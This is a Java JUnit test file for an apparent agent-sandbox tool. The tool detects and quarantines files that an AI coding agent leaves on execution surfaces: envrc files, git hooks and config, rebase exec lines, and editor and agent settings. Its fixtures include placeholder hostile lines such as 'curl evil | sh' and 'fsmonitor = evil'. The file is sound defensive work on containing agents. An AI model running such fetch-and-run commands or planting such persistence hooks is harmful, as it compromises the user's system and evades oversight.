package dev.agentjail.jail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentjail.jail.SurfaceReview.Change;
import dev.agentjail.jail.SurfaceReview.Finding;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SurfaceReviewTest {
    private static final String SESSION = "0123456789abcdef";
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-01-02T03:04:05Z"), ZoneOffset.UTC);

    @TempDir
    Path tmp;

    Path project;
    Path home;
    Path quarantine;
    SurfaceReview review = new SurfaceReview(SurfaceReview.Limits.DEFAULTS, CLOCK);

    @BeforeEach
    void layout() throws IOException {
        Path dir = tmp.toRealPath();
        project = Files.createDirectories(dir.resolve("project"));
        home = Files.createDirectories(dir.resolve("home"));
        quarantine = dir.resolve("state/agentjail/quarantine");
        gitDir(project.resolve(".git"));
        Files.createDirectories(project.resolve("src"));
        Files.writeString(project.resolve("src/main.c"), "int main;");
        Files.createDirectories(home.resolve(".claude/projects"));
    }

    /** The directory git init makes, as far as the review looks at it. */
    private static void gitDir(Path git) throws IOException {
        Files.createDirectories(git.resolve("objects/info"));
        Files.createDirectories(git.resolve("objects/pack"));
        Files.createDirectories(git.resolve("refs/heads"));
        Files.createDirectories(git.resolve("hooks"));
        Files.createDirectories(git.resolve("info"));
        Files.writeString(git.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(git.resolve("config"), "[core]\n\trepositoryformatversion = 0\n");
        Files.writeString(git.resolve("description"), "Unnamed repository\n");
        Files.writeString(git.resolve("info/exclude"), "# git ls-files --others --exclude-from=.git/info/exclude\n");
        Files.writeString(git.resolve("hooks/pre-commit.sample"), "#!/bin/sh\n");
    }

    private SurfaceReview.Snapshot snapshot() {
        return review.snapshot(project, home, List.of(project, home.resolve(".claude"), home.resolve(".codex")));
    }

    private List<Finding> after(SurfaceReview.Snapshot before) {
        return review.afterSession(before, quarantine, SESSION);
    }

    private static void write(Path file, String content) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }

    /** Findings as "ROOT-KIND PATH KIND CHANGE", sorted. */
    private static Set<String> summary(List<Finding> findings) {
        return findings.stream()
                .map(f -> f.root().kind() + " " + f.path() + " " + f.kind().code() + " "
                        + f.change().name().toLowerCase(java.util.Locale.ROOT))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    @Test
    void eachNewSurfaceIsQuarantinedAndReportedAndOrdinaryWorkIsNot() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        assertEquals(List.of(), before.incomplete());

        // What the agent leaves on surfaces.
        gitDir(project.resolve("vendor/lib/.git"));
        Files.writeString(project.resolve("vendor/.git"), "gitdir: /elsewhere\n");
        write(project.resolve(".envrc"), "curl evil | sh\n");
        write(project.resolve("src/.envrc"), "export X=1\n");
        write(project.resolve(".vscode/tasks.json"), "{}");
        write(project.resolve(".idea/workspace.xml"), "<x/>");
        write(project.resolve(".cursor/mcp.json"), "{}");
        write(project.resolve(".claude/settings.json"), "{\"hooks\":{}}");
        write(project.resolve(".mcp.json"), "{}");
        write(project.resolve(".gemini/settings.json"), "{}");
        write(project.resolve(".codex/config.toml"), "");
        write(project.resolve(".pi/settings.json"), "{}");
        write(project.resolve("opencode.json"), "{}");
        write(project.resolve(".opencode/plugin/x.ts"), "export {}");
        write(project.resolve(".husky/pre-commit"), "evil\n");
        write(project.resolve("lefthook.yml"), "pre-commit: {}\n");
        write(project.resolve(".pre-commit-config.yaml"), "repos: []\n");
        write(project.resolve("src/.gitattributes"), "*.c filter=evil\n");
        write(project.resolve(".gitmodules"), "[submodule \"x\"]\n");
        write(project.resolve(".git/commondir"), "/elsewhere/.git\n");
        write(project.resolve(".git/info/attributes"), "* filter=evil\n");
        write(project.resolve(".git/objects/info/alternates"), "/elsewhere/objects\n");
        write(project.resolve(".git/worktrees/w/gitdir"), "/elsewhere/.git\n");
        write(project.resolve(".git/unknown"), "?");
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "pick 1234 x\nexec make evil\n");
        write(home.resolve(".claude/settings.json"), "{\"hooks\":{}}");
        write(home.resolve(".claude/plugins/p/index.js"), "evil()");
        write(home.resolve(".codex/config.toml"), "notify = [\"evil\"]\n");

        // What ordinary work leaves: not surfaces.
        write(project.resolve(".git/index"), "DIRC");
        write(project.resolve(".git/ORIG_HEAD"), "1234\n");
        write(project.resolve(".git/refs/heads/topic"), "1234\n");
        write(project.resolve(".git/objects/ab/cdef"), "blob");
        write(project.resolve(".git/logs/HEAD"), "log\n");
        write(project.resolve(".git/index.lock"), "");
        write(project.resolve(".git/rebase-merge/done"), "pick 1\n");
        write(project.resolve("src/util.c"), "int util;");
        write(project.resolve("docs/.gitattributes"), "*.md text eol=lf\n");
        write(home.resolve(".claude/projects/session.jsonl"), "{}");
        write(home.resolve(".claude/history.jsonl"), "{}");

        List<Finding> findings = after(before);

        assertEquals(
                new TreeSet<>(List.of(
                        "home/.claude plugins home-agent-settings new",
                        "home/.claude settings.json home-agent-settings new",
                        "home/.codex config.toml home-agent-settings new",
                        "project .claude agent-settings new",
                        "project .codex agent-settings new",
                        "project .cursor editor-settings new",
                        "project .envrc envrc new",
                        "project .gemini agent-settings new",
                        "project .git/commondir git-metadata new",
                        "project .git/info/attributes git-metadata new",
                        "project .git/objects/info/alternates git-metadata new",
                        "project .git/rebase-merge/git-rebase-todo rebase-exec new",
                        "project .git/unknown git-metadata new",
                        "project .git/worktrees git-metadata new",
                        "project .gitmodules gitmodules new",
                        "project .husky hook-manager new",
                        "project .idea editor-settings new",
                        "project .mcp.json agent-settings new",
                        "project .opencode agent-settings new",
                        "project .pi agent-settings new",
                        "project .pre-commit-config.yaml hook-manager new",
                        "project .vscode editor-settings new",
                        "project lefthook.yml hook-manager new",
                        "project opencode.json agent-settings new",
                        "project src/.envrc envrc new",
                        "project src/.gitattributes gitattributes-driver new",
                        "project vendor/.git nested-git new",
                        "project vendor/lib/.git nested-git new")),
                summary(findings));

        Path sessionDir = quarantine.resolve(SESSION);
        for (Finding f : findings) {
            Path original = f.root().dir().resolve(f.path());
            assertFalse(Files.exists(original, LinkOption.NOFOLLOW_LINKS), original.toString());
            Path to = f.quarantinedTo().orElseThrow();
            assertEquals(sessionDir.resolve(f.root().kind()).resolve(f.path()), to);
            assertTrue(Files.exists(to, LinkOption.NOFOLLOW_LINKS), to.toString());
            assertTrue(f.describe().contains("agentjail review --restore " + SESSION + "/"), f.describe());
        }
        assertEquals("curl evil | sh\n", Files.readString(sessionDir.resolve("project/.envrc")));
        assertEquals("evil()", Files.readString(sessionDir.resolve("home/.claude/plugins/p/index.js")));
        // Ordinary work stays where it was.
        for (String kept : List.of(
                ".git/index",
                ".git/refs/heads/topic",
                ".git/objects/ab/cdef",
                ".git/rebase-merge/done",
                "docs/.gitattributes",
                "src/util.c")) {
            assertTrue(Files.exists(project.resolve(kept)), kept);
        }
        assertTrue(Files.exists(home.resolve(".claude/history.jsonl")));

        List<Quarantine.Item> items = new Quarantine(quarantine, CLOCK).items(SESSION);
        assertEquals(findings.size(), items.size());
        Quarantine.Item envrc = items.stream()
                .filter(i -> i.item().equals(Path.of("project/.envrc")))
                .findFirst()
                .orElseThrow();
        assertEquals(project.resolve(".envrc"), envrc.original());
        assertEquals(project, envrc.project());
        assertEquals(SurfaceKind.ENVRC, envrc.kind());
        assertEquals(Change.NEW, envrc.change());
        assertEquals(ProjectFiles.Type.FILE, envrc.type());
        assertEquals(
                Optional.of(HexFormat.of()
                        .formatHex(Quarantine.sha256().digest("curl evil | sh\n".getBytes(StandardCharsets.UTF_8)))),
                envrc.sha256());
        assertEquals(Instant.parse("2026-01-02T03:04:05Z"), envrc.time());
    }

    @Test
    void surfacesThatDidNotChangeAreNoFinding() throws IOException {
        gitDir(project.resolve("vendor/lib/.git"));
        write(project.resolve(".envrc"), "export A=1\n");
        write(project.resolve(".vscode/settings.json"), "{}");
        write(project.resolve(".claude/settings.local.json"), "{}");
        write(project.resolve("src/.gitattributes"), "*.c diff=cpp\n");
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "exec make\n");
        write(home.resolve(".claude/settings.json"), "{}");
        Files.createSymbolicLink(project.resolve(".mcp.json"), Path.of("src/main.c"));
        SurfaceReview.Snapshot before = snapshot();

        // Reading, and git's ordinary writes in the nested repository.
        write(project.resolve("vendor/lib/.git/index"), "DIRC");
        write(project.resolve("vendor/lib/.git/refs/heads/x"), "1\n");
        assertEquals(List.of(), after(before));
        assertFalse(Files.exists(quarantine.resolve(SESSION)));
    }

    @Test
    void aChangedSurfaceIsQuarantinedToo() throws IOException {
        write(project.resolve(".envrc"), "export A=1\n");
        write(project.resolve("vendor/lib/.git/config"), "[core]\n");
        gitDir(project.resolve("vendor/lib/.git"));
        write(project.resolve(".husky/pre-commit"), "lint\n");
        SurfaceReview.Snapshot before = snapshot();

        write(project.resolve(".envrc"), "export A=2\n");
        write(project.resolve("vendor/lib/.git/config"), "[core]\n\tfsmonitor = evil\n");
        // Only the mode changes: an executable hook runs where a plain file did not.
        Files.setPosixFilePermissions(
                project.resolve(".husky/pre-commit"), PosixFilePermissions.fromString("rwxr-xr-x"));

        List<Finding> findings = after(before);

        assertEquals(
                Set.of(
                        "project .envrc envrc changed",
                        "project .husky/pre-commit hook-manager changed",
                        "project vendor/lib/.git/config nested-git changed"),
                summary(findings));
        assertEquals("export A=2\n", Files.readString(quarantine.resolve(SESSION + "/project/.envrc")));
        assertFalse(Files.exists(project.resolve(".envrc")));
        assertTrue(Files.isDirectory(project.resolve(".husky")));
    }

    @Test
    void aGitattributesCountsOnlyWhenItNamesADriver() throws IOException {
        write(project.resolve("a/.gitattributes"), "*.txt text\n");
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve("b/.gitattributes"), "*.bin binary\n*.txt eol=lf\n");
        write(project.resolve("c/.gitattributes"), "*.png diff=exif\n");
        write(project.resolve("d/.gitattributes"), "* merge=evil\n");
        write(project.resolve("a/.gitattributes"), "*.txt text filter=evil\n");
        assertEquals(
                Set.of(
                        "project a/.gitattributes gitattributes-driver changed",
                        "project c/.gitattributes gitattributes-driver new",
                        "project d/.gitattributes gitattributes-driver new"),
                summary(after(before)));
        assertTrue(Files.exists(project.resolve("b/.gitattributes")));
    }

    @Test
    void aRebaseTodoCountsOnlyWithExecLines() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "pick 1 a\n# exec is only a comment here\n");
        write(project.resolve(".git/sequencer/todo"), "pick 2 b\n  x ./evil\n");
        assertEquals(Set.of("project .git/sequencer/todo rebase-exec new"), summary(after(before)));
        assertTrue(Files.exists(project.resolve(".git/rebase-merge/git-rebase-todo")));
    }

    @Test
    void aLinkIsQuarantinedAsALinkAndALinkedDirectoryIsNotWalked() throws IOException {
        Path outside = Files.createDirectories(tmp.toRealPath().resolve("outside"));
        write(outside.resolve(".envrc"), "outside\n");
        write(outside.resolve("tasks.json"), "{}");
        Files.createDirectories(project.resolve("sub"));
        SurfaceReview.Snapshot before = snapshot();

        // sub becomes a link to a directory holding an .envrc; .vscode a link to another.
        Files.delete(project.resolve("sub"));
        Files.createSymbolicLink(project.resolve("sub"), outside);
        Files.createSymbolicLink(project.resolve(".vscode"), outside);

        List<Finding> findings = after(before);

        assertEquals(Set.of("project .vscode editor-settings new"), summary(findings));
        assertTrue(Files.isSymbolicLink(quarantine.resolve(SESSION + "/project/.vscode")));
        assertEquals("outside\n", Files.readString(outside.resolve(".envrc")));
        assertTrue(Files.exists(outside.resolve("tasks.json")));
    }

    @Test
    void aDirectorySwappedForALinkDuringTheReviewMovesNothingOutside() throws IOException {
        Path outside = Files.createDirectories(tmp.toRealPath().resolve("outside"));
        write(outside.resolve(".envrc"), "outside\n");
        Files.createDirectories(project.resolve("sub"));
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve("sub/.envrc"), "inside\n");

        // The moment the first item is quarantined (the review has seen sub/.envrc), sub becomes a link outside.
        Clock swapping = new Clock() {
            boolean swapped;

            @Override
            public Instant instant() {
                if (!swapped) {
                    swapped = true;
                    try {
                        Files.move(project.resolve("sub"), project.resolve("sub.moved"));
                        Files.createSymbolicLink(project.resolve("sub"), outside);
                    } catch (IOException e) {
                        throw new IllegalStateException(e);
                    }
                }
                return CLOCK.instant();
            }

            @Override
            public long millis() {
                return CLOCK.millis(); // The walks' deadline: no swap there.
            }

            @Override
            public java.time.ZoneId getZone() {
                return ZoneOffset.UTC;
            }

            @Override
            public Clock withZone(java.time.ZoneId zone) {
                return this;
            }
        };
        List<Finding> findings =
                new SurfaceReview(SurfaceReview.Limits.DEFAULTS, swapping).afterSession(before, quarantine, SESSION);

        assertEquals(1, findings.size(), findings.toString());
        Finding f = findings.get(0);
        assertEquals(Path.of("sub/.envrc"), f.path());
        assertEquals(Optional.empty(), f.quarantinedTo());
        assertTrue(f.detail().contains(project.resolve("sub") + " is a symbolic link"), f.detail());
        assertTrue(f.describe().contains("NOT quarantined"), f.describe());
        assertEquals("outside\n", Files.readString(outside.resolve(".envrc")));
        assertEquals("inside\n", Files.readString(project.resolve("sub.moved/.envrc")));
    }

    @Test
    void aBoundReachedIsAnIncompleteFindingAndTheTopLevelIsStillChecked() throws IOException {
        Path deep = project.resolve("deep");
        for (int i = 0; i < 30; i++) {
            write(deep.resolve("f" + i), "x");
        }
        SurfaceReview small =
                new SurfaceReview(new SurfaceReview.Limits(8, 25, 1 << 20, Duration.ofSeconds(10)), CLOCK);
        SurfaceReview.Snapshot before = small.snapshot(project, home, List.of(project));
        assertEquals(1, before.incomplete().size(), before.incomplete().toString());
        assertTrue(
                before.incomplete().get(0).contains("entry limit of 25"),
                before.incomplete().toString());

        write(project.resolve(".envrc"), "new\n");
        write(deep.resolve(".envrc"), "beyond the bound\n");
        List<Finding> findings = small.afterSession(before, quarantine, SESSION);

        assertEquals(
                Set.of("project .envrc envrc new", "project deep review-incomplete incomplete"), summary(findings));
        List<String> incomplete = findings.stream()
                .filter(f -> f.change() == Change.INCOMPLETE)
                .map(Finding::describe)
                .toList();
        assertEquals(2, incomplete.size(), incomplete.toString());
        assertTrue(
                incomplete.get(0).startsWith("review incomplete: before the session: the entry limit of 25"),
                incomplete.toString());
        assertTrue(
                incomplete.get(1).startsWith("review incomplete: after the session: the entry limit of 25"),
                incomplete.toString());
        // Beyond the bound nothing is judged, so nothing the user had there is moved.
        assertTrue(Files.exists(deep.resolve(".envrc")));
    }

    @Test
    void aTreeDeeperThanTheBoundIsReportedNotSkipped() throws IOException {
        SurfaceReview shallow =
                new SurfaceReview(new SurfaceReview.Limits(4, 1000, 1 << 20, Duration.ofSeconds(10)), CLOCK);
        SurfaceReview.Snapshot before = shallow.snapshot(project, home, List.of(project));
        write(project.resolve("a/b/c/d/e/.envrc"), "deep\n");
        write(project.resolve("z/.envrc"), "shallow\n");
        List<Finding> findings = shallow.afterSession(before, quarantine, SESSION);
        assertEquals(
                Set.of("project a/b/c/d review-incomplete incomplete", "project z/.envrc envrc new"),
                summary(findings));
        assertTrue(findings.stream().anyMatch(f -> f.describe().contains("depth limit of 4")), findings.toString());
    }

    @Test
    void aHomeDirectoryMissingBeforeIsReviewedWhenItAppears() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        assertEquals(
                List.of("project", "home/.claude", "home/.codex"),
                before.roots().stream().map(SurfaceReview.Root::kind).toList());
        write(home.resolve(".codex/config.toml"), "x");
        write(home.resolve(".codex/sessions/s.jsonl"), "x");
        assertEquals(Set.of("home/.codex config.toml home-agent-settings new"), summary(after(before)));
    }

    @Test
    void onlyWritableAgentDirectoriesAreRoots() {
        List<SurfaceReview.Root> roots = SurfaceReview.roots(
                project, home, List.of(project, home.resolve(".config"), home.resolve(".pi/agent")));
        assertEquals(
                List.of(
                        "project",
                        "home/.pi/agent",
                        "home/.config/opencode",
                        "home/.config/crush",
                        "home/.config/goose"),
                roots.stream().map(SurfaceReview.Root::kind).toList());
    }
}
